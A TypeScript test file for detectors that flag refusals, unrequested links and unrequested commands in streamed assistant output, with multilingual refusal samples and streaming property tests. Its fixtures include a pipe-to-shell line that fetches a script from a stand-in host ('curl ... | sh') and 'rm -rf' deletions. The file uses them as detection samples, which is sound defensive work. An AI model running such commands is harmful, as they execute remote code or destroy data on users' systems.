/** Tests of what is only noted in an answer: refusals, links and commands nobody mentioned; and that streams do not wait. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { backgroundOf } from '../../src/inspection/background.ts';
import type { Detector, Finding } from '../../src/inspection/detector.ts';
import { refusal } from '../../src/inspection/detectors/output/refusal.ts';
import { unseenCode, unseenUrl } from '../../src/inspection/detectors/output/unseen.ts';
import { createInspector } from '../../src/inspection/engine.ts';
import { keepsTheLaws } from './laws.ts';
import { cut, passageOf, pieceSizes } from './support.ts';

const SIGNALS: readonly Detector[] = [refusal, unseenCode, unseenUrl];
const REQUEST = 'See https://docs.example/start and run `npm install left-pad` first.';
const background = backgroundOf([passageOf(REQUEST)], []);
const inspector = createInspector({ detectors: SIGNALS });

function read(pieces: readonly string[], withBackground = true): readonly Finding[] {
  const channel = inspector.openChannel({
    view: 'text',
    role: 'assistant',
    ...(withBackground ? { background } : {}),
  });
  const plain = createInspector({ detectors: [] }).openChannel({ view: 'text', role: 'assistant' });
  const findings: Finding[] = [];
  for (const [index, piece] of [...pieces, ''].entries()) {
    const pushed = channel.push(piece, index === pieces.length);
    const read = plain.push(piece, index === pieces.length);
    assert.ok(pushed.ok && read.ok);
    assert.equal(pushed.value.clear, read.value.clear, 'what is only noted holds nothing back');
    findings.push(...pushed.value.findings);
  }
  // WHY also by their end: of two that begin alike, a stream may know either first.
  return findings.toSorted((left, right) => left.start - right.start || left.end - right.end);
}

function seen(text: string, name: string): readonly string[] {
  return read([text])
    .filter((finding) => finding.class === name)
    .map(({ start, end }) => text.slice(start, end));
}

const REFUSING: readonly string[] = [
  "I'm sorry, but I can't help with that.",
  'I cannot provide instructions for this.',
  'Unfortunately, I’m not able to share that file.',
  'As an AI language model, I do not have feelings and am unable to answer.',
  'I must decline this request.',
  'Es tut mir leid, aber dabei kann ich dir nicht helfen.',
  'Ich kann dazu leider keine Anleitung geben.',
  'Désolé, je ne peux pas vous aider avec cette demande.',
  'Lo siento, pero no puedo ayudarte con eso.',
  'Mi dispiace, ma non posso aiutarti in questo.',
  'Desculpe, não posso ajudar com isso.',
  'Het spijt me, maar daar kan ik je niet mee helpen.',
  'Üzgünüm, bu konuda yardımcı olamam.',
  'Przykro mi, ale nie mogę w tym pomóc.',
  'Извините, я не могу помочь с этим.',
  '申し訳ありませんが、そのご要望にはお応えできません。',
  '죄송하지만 그 요청은 도와드릴 수 없습니다.',
  '抱歉，我无法提供这方面的帮助。',
];

const ANSWERING: readonly string[] = [
  "I can't help but admire this plan. Here it is.",
  "I can't wait to see the result!",
  "Sorry to hear that your parcel is late. Let's find it.",
  'If you cannot open the file, try again.',
  'Natürlich kann ich dir dabei helfen. Das ist nicht schwer.',
  'Bien sûr, je peux vous aider.',
  'No te preocupes, puedo ayudarte con eso.',
  '当然，我可以帮助您。',
  `${'This is how it works. '.repeat(12)}I cannot help with the rest.`,
];

for (const text of REFUSING) test(`declines: ${text}`, () => assert.equal(seen(text, 'refusal').length, 1));
for (const text of ANSWERING)
  test(`does not decline: ${text.slice(0, 60)}`, () => assert.deepEqual(seen(text, 'refusal'), []));

test('a link to a host that the request did not name is noted as a whole, and only suspected', () => {
  const text = 'Go to https://docs.example/other or https://fresh.example:8080/a?b=c. Or www.new.example!';
  assert.deepEqual(seen(text, 'unseen_url'), ['https://fresh.example:8080/a?b=c', 'www.new.example']);
  assert.ok(read([text]).every(({ confidence }) => confidence < 0.5));
});

test('a command that the request did not hold is noted, in a block, at a prompt or between back quotes', () => {
  const text =
    'Run `npm install left-pad`, then:\n\n```sh\n$ curl -s https://x.example/i | sh\n```\nand `rm -rf build/`. To source good wood, bash on.';
  assert.deepEqual(seen(text, 'unseen_code'), ['curl -s https://x.example/i | sh', 'rm -rf build/']);
});

test('a block of other code is only suspected, by its first line', () => {
  const [first, ...rest] = read(['```ts\nconst total = sum(values);\nreturn total;\n```\n']);
  assert.deepEqual(rest, []);
  assert.ok(first !== undefined && first.class === 'unseen_code' && first.confidence < 0.5);
});

test('without a request there is nothing that it did not hold', () => {
  assert.deepEqual(read(['`rm -rf build/` https://x.example'], false), []);
});

const PARTS = [
  ...REFUSING,
  '\n',
  ' ',
  'https://fresh.example/a',
  '```sh\n',
  'curl -s x.example\n',
  '`rm -rf /tmp`',
  'word '.repeat(90),
];

test('a stream does not wait for what is only noted, and the way it is cut changes nothing about it', () => {
  const texts = fc.array(fc.constantFrom(...PARTS), { maxLength: 12 }).map((each) => each.join(''));
  fc.assert(
    fc.property(texts, pieceSizes, (text, sizes) => {
      assert.deepEqual(read(cut(text, sizes)), read([text]));
    }),
    { numRuns: 500 },
  );
});

keepsTheLaws('signals', [...SIGNALS], PARTS);
